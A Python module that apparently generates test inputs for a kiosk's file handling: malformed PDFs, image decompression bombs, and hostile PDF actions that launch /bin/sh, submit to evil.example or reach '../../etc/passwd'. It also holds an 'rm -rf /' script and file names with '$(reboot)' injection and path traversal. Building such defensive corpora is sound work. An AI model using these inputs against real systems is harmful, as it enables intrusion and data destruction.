"""Makes damaged and hostile documents, each named by what is wrong with it."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable, Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

BLANK = b"q Q"


def pdf(change: Callable[[pikepdf.Pdf], object] | None = None, **how: object) -> bytes:
    """Give a sound PDF of one page, changed."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(595, 842))
    if change is not None:
        change(document)
    written = io.BytesIO()
    document.save(written, **how)  # type: ignore[arg-type]  # each its own
    return written.getvalue()


def picture(kind: str, size: tuple[int, int] = (60, 40), mode: str = "RGB", **how: object) -> bytes:
    """Give a sound picture."""
    written = io.BytesIO()
    Image.new(mode, size).save(written, kind, **how)
    return written.getvalue()


def turned_photo(orientation: int) -> bytes:
    """Give a photo whose left half is white as it lies, and that says how it was held."""
    image = Image.new("RGB", (60, 40), "black")
    image.paste("white", (0, 0, 30, 40))
    exif = Image.Exif()
    exif[0x0112] = orientation
    written = io.BytesIO()
    image.save(written, "JPEG", exif=exif, quality=95)
    return written.getvalue()


def png_bomb(width: int, height: int) -> bytes:
    """Give a PNG that is small as a file, and says that it is large as a picture."""
    head = width.to_bytes(4) + height.to_bytes(4) + b"\x08\x00\x00\x00\x00"
    rows = zlib.compress(bytes(10_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", rows) + _chunk(b"IEND")


def _chunk(kind: bytes, content: bytes = b"") -> bytes:
    return len(content).to_bytes(4) + kind + content + zlib.crc32(kind + content).to_bytes(4)


# --- one thing wrong with a PDF -------------------------------------------------------------------
def _action(kind: str, **more: object) -> Callable[[pikepdf.Pdf], object]:
    def change(document: pikepdf.Pdf) -> None:
        said = {f"/{key}": value for key, value in more.items()}
        document.Root.OpenAction = Dictionary({"/S": Name(f"/{kind}"), **said})

    return change


def _contents(content: bytes) -> Callable[[pikepdf.Pdf], object]:
    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].Contents = document.make_stream(content)

    return change


def _box(*edges: float) -> Callable[[pikepdf.Pdf], object]:
    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].MediaBox = Array(edges)

    return change


def _pages(number: int) -> Callable[[pikepdf.Pdf], object]:
    def change(document: pikepdf.Pdf) -> None:
        for _ in range(number - 1):
            document.add_blank_page(page_size=(595, 842))

    return change


def _form_within_itself(document: pikepdf.Pdf) -> None:
    form = document.make_stream(b"/F Do")
    form.Type, form.Subtype = Name.XObject, Name.Form
    form.BBox = Array([0, 0, 595, 842])
    form.Resources = Dictionary(XObject=Dictionary(F=form))
    page = document.pages[0]
    page.Resources = Dictionary(XObject=Dictionary(F=form))
    page.Contents = document.make_stream(b"/F Do")


def _image(width: int, height: int, data: bytes, **more: object) -> Callable[[pikepdf.Pdf], object]:
    def change(document: pikepdf.Pdf) -> None:
        image = document.make_stream(data)
        image.Type, image.Subtype = Name.XObject, Name.Image
        image.Width, image.Height, image.BitsPerComponent = width, height, 8
        image.ColorSpace = Name.DeviceGray
        for key, value in more.items():
            image[f"/{key}"] = value
        page = document.pages[0]
        page.Resources = Dictionary(XObject=Dictionary(I=image))
        page.Contents = document.make_stream(b"595 0 0 842 0 0 cm /I Do")

    return change


def _attached(document: pikepdf.Pdf) -> None:
    document.attachments["../../evil.exe"] = pikepdf.AttachedFileSpec(document, b"MZ")


def raw(objects: list[bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """Give a PDF of objects as they are, from 1."""
    made = bytearray(b"%PDF-1.7\n")
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for place in places:
        made += b"%010d 00000 n \n" % place
    size = len(objects) + 1
    made += b"trailer\n<</Size %d %s>>\nstartxref\n%d\n%%%%EOF" % (size, trailer, start)
    return bytes(made)


CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"


def _nested(depth: int) -> bytes:
    """Give a PDF with arrays within arrays."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/X %s>>" % (b"[" * depth + b"]" * depth)
    return raw([CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page])


def pdfs() -> Iterator[tuple[str, bytes]]:
    """Give each PDF with its name."""
    sound = pdf()
    for share in (5, 10, 25, 50, 75, 90, 95, 99):
        yield f"the first {share} % of a file", sound[: len(sound) * share // 100]
    for place in range(10, 100, 10):
        cut = len(sound) * place // 100
        yield f"eight bytes of noise at {place} %", sound[:cut] + b"\xff\x00" * 4 + sound[cut + 8 :]
    yield "a cross-reference that is cut off", sound[: sound.rfind(b"startxref")]
    yield "a cross-reference that points nowhere", sound.replace(b"startxref\n", b"startxref\n9")
    yield "nothing but a head", b"%PDF-1.7\n"
    yield "a head and zeros", b"%PDF-1.7\n" + bytes(100_000)
    yield "a head after 1000 bytes of something else", b" " * 1000 + sound
    yield "an unknown version", sound.replace(b"%PDF-1", b"%PDF-9")
    yield "a page behind which HTML follows", sound + b"<html><script>alert(1)</script>"
    yield "HTML before a page", b"<html><!--" + sound + b"--></html>"
    yield "a password to open it", pdf(encryption=pikepdf.Encryption(owner="o", user="u"))
    yield "a password of its owner", pdf(encryption=pikepdf.Encryption(owner="o", user=""))
    yield (
        "an old password",
        pdf(encryption=pikepdf.Encryption(owner="o", user="u", R=3, aes=False, metadata=False)),
    )
    yield "a script at opening", pdf(_action("JavaScript", JS="while(1){}"))
    yield "a program at opening", pdf(_action("Launch", F="/bin/sh"))
    yield "an address at opening", pdf(_action("URI", URI="https://evil.example/"))
    yield "a form that sends itself", pdf(_action("SubmitForm", F="https://evil.example/"))
    yield "another file at opening", pdf(_action("GoToR", F="../../etc/passwd"))
    yield "an attached program", pdf(_attached)
    for number in (501, 10_000):
        yield f"{number} pages", pdf(_pages(number))
    for edges in (
        (0, 0, 0, 0),
        (0, 0, 14400, 14400),
        (0, 0, 1e9, 1e9),
        (0, 0, 1, 100_000),
        (5, 5, -5, -5),
        (-1e9, -1e9, 1e9, 1e9),
    ):
        yield f"a page of {edges}", pdf(_box(*edges))
    yield "contents of 200 MB in 200 kB", pdf(_contents(b" " * 200_000_000))
    yield "200,000 strokes", pdf(_contents(b"0 0 m 595 842 l S\n" * 200_000))
    yield "100,000 states that are never restored", pdf(_contents(b"q " * 100_000))
    yield "contents that mean nothing", pdf(_contents(b"\xff\xfe(((<<[[ Tj Do" * 1000))
    yield "a form within itself", pdf(_form_within_itself)
    yield "a picture that is shorter than it says", pdf(_image(3000, 3000, b"\0" * 10))
    yield "a picture of 40,000 by 40,000", pdf(_image(40_000, 40_000, bytes(5_000_000)))
    yield "a picture of nothing", pdf(_image(0, 0, b""))
    yield "a picture of less than nothing", pdf(_image(-5, 5, bytes(100_000)))
    yield "a picture of an unknown kind", pdf(_image(9, 9, b"x", Filter=Name("/Nonsense")))
    yield "a JPEG that is none", pdf(_image(900, 900, bytes(90_000), Filter=Name.DCTDecode))
    for depth in (400, 5_000, 100_000):
        yield f"{depth} arrays within arrays", _nested(depth)
    yield "pages that are their own parent", raw([CATALOG, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"])
    yield (
        "pages in a circle",
        raw(
            [
                CATALOG,
                b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
                b"<</Type/Pages/Kids[2 0 R]/Count 1>>",
            ]
        ),
    )
    yield (
        "a page that is there twice",
        raw(
            [
                CATALOG,
                b"<</Type/Pages/Kids[3 0 R 3 0 R]/Count 2>>",
                b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
            ]
        ),
    )
    yield "a reference to itself", raw([CATALOG, b"2 0 R"])
    yield "no pages", raw([CATALOG, b"<</Type/Pages/Kids[]/Count 0>>"])
    yield (
        "two billion pages that are not there",
        raw([CATALOG, b"<</Type/Pages/Kids[]/Count 2147483647>>"]),
    )
    yield "pages that are a number", raw([CATALOG, b"42"])
    yield "no root", raw([CATALOG], b"")
    yield "a root that is not there", raw([CATALOG], b"/Root 9 0 R")
    yield (
        "a length that is a circle",
        raw(
            [
                CATALOG,
                b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
                b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>",
                b"<</Length 4 0 R>>stream\nq Q\nendstream",
            ]
        ),
    )


def pictures() -> Iterator[tuple[str, bytes]]:
    """Give each picture with its name."""
    photo = picture("JPEG", (800, 600))
    for share in (2, 20, 50, 90):
        yield f"the first {share} % of a photo", photo[: len(photo) * share // 100]
    yield "a photo in four inks", picture("JPEG", mode="CMYK")
    yield "a photo and an archive", photo + b"PK\x03\x04"
    yield "a photo and a page", photo + pdf()
    yield "only the beginning of a photo", b"\xff\xd8\xff"
    yield "a photo of noise", b"\xff\xd8\xff" + bytes(range(256)) * 40
    drawing = picture("PNG", (800, 600))
    yield "the first half of a drawing", drawing[: len(drawing) // 2]
    yield "a drawing with a wrong sum", drawing[:20] + b"\0\0\0\1" + drawing[24:]
    for mode in ("1", "L", "LA", "P", "RGBA", "I;16"):
        yield f"a drawing in {mode}", picture("PNG", mode=mode)
    for size in (
        (50_000, 50_000),
        (30_000, 30_000),
        (1, 2_000_000),
        (2**31 - 1, 2**31 - 1),
        (0, 0),
    ):
        yield f"a drawing of {size}", png_bomb(*size)


def strangers() -> Iterator[tuple[str, bytes]]:
    """Give what a kiosk does not keep, whatever it is called."""
    for kind in ("GIF", "WEBP", "TIFF", "BMP", "ICO"):
        yield kind, picture(kind)
    yield "SVG", b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>"
    yield "HEIC", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic"
    yield "HTML", b"<!doctype html><script>1</script>"
    yield "a Windows program", b"MZ\x90\0" + bytes(500)
    yield "a Linux program", b"\x7fELF" + bytes(500)
    yield "an archive", b"PK\x03\x04" + bytes(500)
    yield "a letter of an office program", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
    yield "a script", b"#!/bin/sh\nrm -rf /\n"
    yield "PostScript", b"%!PS-Adobe-3.0\n"
    yield "a page after 2000 bytes of something else", b" " * 2000 + pdf()
    yield "nothing", b""


NAMES = (
    "a\nb.pdf", "../../etc/passwd", "..", "/", "\\\\server\\share\\x.pdf", "\u202efdp.exe",
    "é" * 127, "x" * 255, "😀😀.pdf", "-rf.pdf", "CON", "", ".pdf", ".", "a\0b.pdf", "\u2028.pdf",
    "a" * 5000, "%s%n.pdf", "$(reboot).pdf", "\x1b[2J.pdf", "e\u0301" * 60, "\ud800.pdf",
)  # fmt: skip
